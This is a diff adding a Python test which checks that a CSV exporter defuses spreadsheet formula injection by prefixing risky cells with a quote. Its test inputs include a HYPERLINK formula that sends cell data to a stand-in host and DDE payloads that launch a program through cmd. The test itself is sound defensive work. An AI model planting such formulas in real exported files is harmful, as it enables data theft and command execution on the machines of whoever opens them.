@@ -26,6 +26,25 @@ def test_csv_one_row_per_document_with_the_record(tmp_path):
     assert rows[0]["heading_date"] == "1938-08" and rows[0]["subtitle"].startswith("Stalin")
 
 
+def test_csv_cells_are_neutralised_against_formula_injection(tmp_path):
+    """OWASP: a spreadsheet must show these as text, never run them."""
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
+               "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]
+    docs = []
+    for n, title in enumerate(attacks):
+        d = hand_document()
+        d.id, d.record.title, d.record.authors = f"d{n}", title, ["=cmd|'/C calc'!A0", "Plain Name"]
+        docs.append(d)
+    export_csv(docs, tmp_path / "out.csv")
+    raw = (tmp_path / "out.csv").read_bytes().decode("utf-8")
+    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["title"] for r in rows] == ["'" + t for t in attacks]
+    assert all(r["authors"] == "'=cmd|'/C calc'!A0; Plain Name" for r in rows)
+    assert rows[0]["claims"] == "3" and rows[0]["id"] == "d0"          # plain cells untouched
+    assert raw.startswith('"id","source_path",') and '\r\n"d1","' in raw and ',"3"\r\n' in raw   # all quoted
+
+
 def test_jsonl_is_the_document_json(tmp_path):
     docs = [hand_document(), hand_document()]
     docs[1].text += "\ud800"                        # a lone surrogate must not break the file
